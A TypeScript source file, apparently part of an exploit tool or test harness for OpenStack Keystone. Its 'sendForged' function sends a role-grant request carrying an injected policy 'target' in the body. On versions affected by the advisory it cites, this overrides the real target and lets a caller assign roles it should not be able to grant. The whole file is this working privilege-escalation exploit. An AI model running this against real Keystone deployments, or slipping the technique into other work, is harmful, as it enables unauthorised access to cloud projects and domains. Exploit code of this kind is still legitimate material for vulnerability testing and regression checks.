import type { Role } from '../openstack/keystone/roles.ts'
import type { Session } from '../openstack/session.ts'

export type Forged = {
  readonly user: { readonly id: string; readonly domain_id: string }
  /** A role that the caller may grant: the claimed one. */
  readonly role: Role | undefined
  /** Of the caller's own domain. */
  readonly on: { readonly kind: 'project' | 'domain'; readonly id: string }
}

/**
 * Grants a role with a `target` in the body that claims another one. Below OSSA-2026-015 the body is merged into the
 * policy target, and the injected target replaces the real one (CVE-2026-42999).
 * keystone/common/rbac_enforcer/enforcer.py, `enforce_call`, before commit 2743acbcb.
 */
export async function sendForged(session: Session, roleId: string, { user, role, on }: Forged): Promise<void> {
  const scope = on.kind === 'domain' ? { domain: { id: on.id } } : { project: { id: on.id, domain_id: user.domain_id } }
  const target = {
    role: { id: role?.id, name: role?.name ?? 'member', domain_id: null },
    user: { id: user.id, domain_id: user.domain_id },
    ...scope,
  }
  await session.request({
    service: 'identity',
    method: 'PUT',
    path: `/${on.kind}s/${on.id}/users/${user.id}/roles/${roleId}`,
    body: { target },
  })
}
